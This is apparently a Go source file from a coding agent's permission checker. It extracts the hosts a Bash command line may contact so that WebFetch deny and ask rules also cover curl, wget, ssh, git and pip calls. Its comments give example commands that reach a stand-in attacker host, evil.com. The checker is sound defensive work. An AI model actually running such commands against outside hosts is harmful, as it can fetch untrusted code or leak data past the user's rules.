package command

import (
	"fmt"
	"net/url"
	"path"
	"strings"

	"vibing/internal/hostaddr"
)

// A WebFetch rule in the deny or ask list speaks about a host, and a Bash
// line reaches hosts too: `curl https://evil.com/x`, `wget evil.com/x`,
// `ssh user@evil.com`, `git clone https://evil.com/r`. So deny and ask
// WebFetch rules also fire on a Bash line that names a matching host: in an
// argument of a network command vibing knows (nettools.go), read the way
// that command reads it, or in a scheme://host URL anywhere in any
// command's arguments (`pip install -i https://evil.com/simple x`). Where a
// network command takes its host only at run time (`curl $URL`,
// `xargs curl`, `wget -i list.txt`), the line cannot be checked and the
// rules fire. Allow lists never see Bash hosts: a WebFetch allow does not
// allow a Bash call.
//
// The hosts are worked out once per call, on the first deny or ask domain
// rule that needs them, so a Bash decision that meets no such rule pays
// nothing for them.

// netHosts are the hosts a Bash line may contact.
type netHosts struct {
	Hosts   []string // canonical (normHost), without repeats, in the order they appear
	Unknown string   // why the line may contact hosts not in hosts; "" when it cannot
}

// Hosts returns the hosts the call may contact, in canonical form
// (lower-cased, punycode, numeric addresses as 1.2.3.4 and [::1]): the
// URL's host for WebFetch; for Bash, the hosts its network commands name
// and those of URLs in any command's arguments. Hosts only known at run
// time are not in the list; HostsUnknown says whether there may be such.
func (c *Call) Hosts() []string {
	if c == nil {
		return nil
	}
	if c.Tool == "Bash" {
		return c.BashHosts().Hosts
	}
	if c.Host != "" {
		return []string{c.Host}
	}
	return nil
}

// HostsUnknown returns why the call may contact a host that Hosts does not
// list (`curl $URL`, a line that does not parse), or "" when it cannot.
func (c *Call) HostsUnknown() string {
	if c == nil {
		return ""
	}
	if c.Tool == "Bash" {
		return c.BashHosts().Unknown
	}
	if c.Tool == "WebFetch" && c.Err != nil {
		return c.Err.Error()
	}
	return ""
}

// bashHosts works the hosts out on first need. Two goroutines matching the
// same call at once may both do it; they get the same answer.
func (c *Call) BashHosts() *netHosts {
	if n := c.net.Load(); n != nil {
		return n
	}
	s := hostScan{}
	switch {
	case c.Err != nil:
		s.dunno("the command line cannot be checked (%v)", c.Err)
	case c.BraceOverflow:
		s.dunno("its braces expand to more words than are checked")
	}
	for i := range c.Commands {
		s.command(&c.Commands[i])
	}
	n := &netHosts{Hosts: s.hosts, Unknown: s.unknown}
	if c.net.CompareAndSwap(nil, n) {
		return n
	}
	return c.net.Load()
}

// hostScan collects the hosts of one Bash line.
type hostScan struct {
	hosts   []string
	seen    map[string]bool // once hosts is long
	unknown string
	cmd     *Command // the command being read
	name    string   // its name, for reasons
}

func (s *hostScan) add(h string) {
	if s.seen != nil {
		if !s.seen[h] {
			s.seen[h] = true
			s.hosts = append(s.hosts, h)
		}
		return
	}
	for _, x := range s.hosts {
		if x == h {
			return
		}
	}
	s.hosts = append(s.hosts, h)
	if len(s.hosts) > 16 {
		s.seen = make(map[string]bool, 64)
		for _, x := range s.hosts {
			s.seen[x] = true
		}
	}
}

// dunno records the first reason why some host is only known at run time.
func (s *hostScan) dunno(format string, a ...any) {
	if s.unknown == "" {
		s.unknown = fmt.Sprintf(format, a...)
	}
}

// inert commands print their arguments and contact nothing.
var inert = map[string]bool{"echo": true, "printf": true}

// command reads the hosts of one simple command.
func (s *hostScan) command(cmd *Command) {
	if len(cmd.Words) == 0 {
		return
	}
	s.cmd = cmd
	if cmd.DynamicName {
		s.dunno("the command %s is only known at run time", cmd.Words[0])
		return
	}
	if cmd.BraceOverflow {
		s.dunno("the braces of %s expand to more words than are checked", path.Base(cmd.Words[0]))
	}
	args := cmd.Args
	if exp := cmd.More().expandedArgs; exp != nil {
		args = exp
	}
	xargs := false
	for _, w := range cmd.More().Wrappers {
		xargs = xargs || w == "xargs"
	}
	s.words(args, xargs)
	if len(cmd.More().Wrappers) > 0 {
		// the wrappers' own words: env HTTPS_PROXY=http://h:3128 curl ...
		s.urls(cmd.Words[:len(cmd.Words)-len(cmd.Args)])
		// an option the wrapper table does not know may hide the command
		for _, alt := range cmd.More().Alts {
			if len(alt) > 0 && netTools.Get()[path.Base(alt[0])] != nil {
				s.words(alt, xargs)
			}
		}
	}
}

// words reads one command's words: a known network command by its syntax,
// and any command's arguments for scheme://host URLs.
func (s *hostScan) words(args []string, xargs bool) {
	if len(args) == 0 {
		return
	}
	name := path.Base(args[0])
	if name == "busybox" && len(args) > 1 {
		args = args[1:]
		name = path.Base(args[0])
	}
	s.name = name
	if _, whole := s.known(args[0]); !whole {
		s.dunno("the command %s is only known at run time", args[0])
		return
	}
	if inert[name] {
		return
	}
	rest := args[1:]
	if t := netTools.Get()[name]; t != nil {
		if xargs {
			s.dunno("xargs gives %s arguments only known at run time", name)
		}
		t.scan(s, rest)
	} else if name == "git" {
		if !s.git(rest) {
			return // a git command that contacts no remote; its messages may hold URLs
		}
	} else if s.cmd.unseen != "" {
		s.dunno("%s", s.cmd.unseen) // what it runs cannot be seen (a script piped into a shell ...)
	}
	s.urls(rest)
}

// nonHostSchemes are URL schemes whose authority names no network host.
var nonHostSchemes = Table[map[string]bool]{Make: func() map[string]bool {
	return map[string]bool{"file": true, "s3": true, "s3a": true, "s3n": true, "gs": true, "hdfs": true, "jar": true, "blob": true, "data": true, "about": true}
}}

// urls adds the hosts of scheme://host URLs found anywhere in the words
// (`python3 -c 'urlopen("https://evil.com")'` included). What does not
// read as a host is passed over: these are not known network commands.
func (s *hostScan) urls(words []string) {
	for _, w := range words {
		for off := 0; ; {
			i := strings.Index(w[off:], "://")
			if i < 0 {
				break
			}
			i += off
			off = i + 3
			start := i
			for start > 0 && isSchemeChar(w[start-1]) {
				start--
			}
			if start == i || nonHostSchemes.Get()[strings.ToLower(w[start:i])] {
				continue
			}
			auth := w[off:]
			if end := strings.IndexAny(auth, "/?#\"'` \t\n\\$(){}<>|;,&"); end >= 0 {
				auth = auth[:end]
			}
			if h, err := addrHost(auth); err == nil {
				s.add(h)
			}
		}
	}
}

func isSchemeChar(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '+' || c == '-' || c == '.'
}

// known returns what is known of word w before the command runs: all of a
// literal word (whole); for a word holding an expansion, its literal start
// with the quotes taken out ("" when that start holds an escape).
func (s *hostScan) known(w string) (string, bool) {
	if !s.cmd.Dynamic {
		return w, true
	}
	i := strings.IndexAny(w, "$`")
	if i < 0 {
		return w, true
	}
	p := w[:i]
	if strings.ContainsRune(p, '\\') {
		return "", false
	}
	if !strings.ContainsAny(p, `"'`) {
		return p, false
	}
	b := make([]byte, 0, len(p))
	for k := 0; k < len(p); k++ {
		if p[k] != '"' && p[k] != '\'' {
			b = append(b, p[k])
		}
	}
	return string(b), false
}

func (s *hostScan) runTime(w string) {
	s.dunno("the host %s contacts is only known at run time (%s)", s.name, w)
}

// host adds a host read from an argument; one that does not read as a host
// makes the line unknown (the command would try to reach it).
func (s *hostScan) host(h, w string) {
	c, err := hostaddr.NormHost(h)
	if err != nil {
		s.dunno("%s would contact %q, which does not read as a host (%v)", s.name, w, err)
		return
	}
	s.add(c)
}

// urlArg reads a URL argument (curl, wget); without a scheme it is http.
func (s *hostScan) urlArg(w string) {
	p, whole := s.known(w)
	if whole && (p == "-" || p == "") {
		return
	}
	if !whole {
		// known when the literal start already closes the host part
		start := 0
		if i := strings.Index(p, "://"); i >= 0 {
			start = i + 3
		}
		end := strings.IndexAny(p[start:], "/?#")
		if end < 0 {
			s.runTime(w)
			return
		}
		p = p[:start+end]
	}
	h, has, err := urlArgHost(p)
	switch {
	case err != nil:
		s.dunno("%s would contact %q, which does not read as a URL", s.name, w)
	case has:
		s.add(h)
	}
}

// urlArgHost reads the host of a URL as curl does: no scheme means http://;
// file: URLs have no host.
func urlArgHost(p string) (string, bool, error) {
	raw := p
	if !strings.Contains(p, "://") {
		raw = "http://" + p
	}
	u, err := url.Parse(raw)
	if err != nil {
		return "", false, err
	}
	if strings.EqualFold(u.Scheme, "file") {
		return "", false, nil
	}
	if u.Opaque != "" || u.Host == "" {
		return "", false, fmt.Errorf("no host")
	}
	h, err := urlHost(u)
	return h, err == nil, err
}

// addrHost reads [user@]host[:port], [user@][v6]:port, or a bare IPv6 address.
func addrHost(w string) (string, error) {
	h := w
	if i := strings.LastIndexByte(h, '@'); i >= 0 {
		h = h[i+1:]
	}
	switch {
	case strings.HasPrefix(h, "["):
		if j := strings.IndexByte(h, ']'); j > 0 {
			h = h[:j+1]
		}
	case strings.Count(h, ":") == 1:
		h = h[:strings.IndexByte(h, ':')]
	}
	return hostaddr.NormHost(h)
}

// addrArg reads a host argument: [user@]host[:port], or a URL.
func (s *hostScan) addrArg(w string) {
	p, whole := s.known(w)
	if !whole {
		s.runTime(w)
		return
	}
	if strings.Contains(p, "://") {
		s.urlArg(p)
		return
	}
	h, err := addrHost(p)
	if err != nil {
		s.dunno("%s would contact %q, which does not read as a host (%v)", s.name, w, err)
		return
	}
	s.add(h)
}

// proxyArg reads a proxy setting: a URL (socks5h://h:1080, httpie's
// http:http://h:3128) or host:port.
func (s *hostScan) proxyArg(w string) {
	p, whole := s.known(w)
	if !whole {
		s.runTime(w)
		return
	}
	if i := strings.Index(p, "://"); i >= 0 {
		start := i
		for start > 0 && isSchemeChar(p[start-1]) {
			start--
		}
		s.urlArg(p[start:])
		return
	}
	s.addrArg(p)
}

// remoteArg reads an scp/rsync operand: [user@]host:path, host::module or
// scheme://host/...; a word with no colon before its first '/' is a local
// path, or (bare) a host.
func (s *hostScan) remoteArg(w string, bare bool) {
	p, whole := s.known(w)
	if strings.Contains(p, "://") {
		s.urlArg(w)
		return
	}
	i := colonOutsideBrackets(p)
	if i < 0 {
		switch {
		case strings.ContainsRune(p, '/') || p == "-":
			// a local path
		case !whole:
			s.runTime(w)
		case bare:
			s.addrArg(p)
		}
		return
	}
	if strings.ContainsRune(p[:i], '/') {
		return // a local path with a colon in it
	}
	h := p[:i]
	if j := strings.LastIndexByte(h, '@'); j >= 0 {
		h = h[j+1:]
	}
	s.host(h, w)
}

// colonOutsideBrackets returns the index of the first ':' not inside
// [...], or -1.
func colonOutsideBrackets(p string) int {
	depth := 0
	for i := 0; i < len(p); i++ {
		switch p[i] {
		case '[':
			depth++
		case ']':
			depth--
		case ':':
			if depth <= 0 {
				return i
			}
		}
	}
	return -1
}

// splitColons splits on the colons outside [...].
func splitColons(p string) []string {
	var out []string
	for {
		i := colonOutsideBrackets(p)
		if i < 0 {
			return append(out, p)
		}
		out = append(out, p[:i])
		p = p[i+1:]
	}
}
